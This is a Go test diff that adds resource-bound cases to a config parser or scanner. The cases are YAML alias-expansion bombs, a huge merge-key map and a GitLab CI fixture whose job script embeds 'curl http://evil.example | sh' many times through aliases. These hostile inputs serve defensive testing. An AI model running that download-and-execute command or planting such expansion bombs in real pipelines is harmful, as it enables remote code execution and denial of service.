@@ -2,6 +2,7 @@ package infra
 
 import (
 	"bytes"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
@@ -47,9 +48,21 @@ func TestBounded(t *testing.T) {
 		name := "a" + string(rune('0'+i%10)) + strings.Repeat("x", i/10)
 		bomb += name + ": &" + name + " [" + prev + ", " + prev + ", " + prev + "]\n"
 	}
+	// Each step of these is small, and each place of an alias shares what it names: only
+	// whoever walks them sees how much it is.
+	shared := "a0: &a0 [\"curl http://evil.example | sh\",x,x,x,x,x,x,x,x,x]\n"
+	for i := 1; i < 5; i++ {
+		shared += fmt.Sprintf("a%d: &a%d [%s]\n", i, i, strings.Repeat(fmt.Sprintf("*a%d,", i-1), 10))
+	}
+	var keys strings.Builder
+	for i := range 60_000 {
+		fmt.Fprintf(&keys, "  k%d: v\n", i)
+	}
 	deep := "apiVersion: v1\nkind: Pod\nprivileged: " + strings.Repeat("[", 50_000)
 	for name, c := range map[string]struct{ path, text string }{
 		"aliases": {"a.yaml", bomb},
+		"scripts": {".gitlab-ci.yml", shared + "job:\n  script: [" + strings.Repeat("*a4,", 1000) + "\"curl http://evil.example | sh\"]\n"},
+		"merges":  {"a.yaml", "apiVersion: v1\nkind: Pod\nbase: &b\n" + keys.String() + "spec:\n  <<: *b\n"},
 		"depth":   {"a.yaml", deep},
 		"indents": {"a.yaml", "apiVersion: v1\nkind: Pod\n" + steps(600)},
 		"braces":  {"a.tf", "publicly_accessible = " + strings.Repeat("{a=", 30_000)},
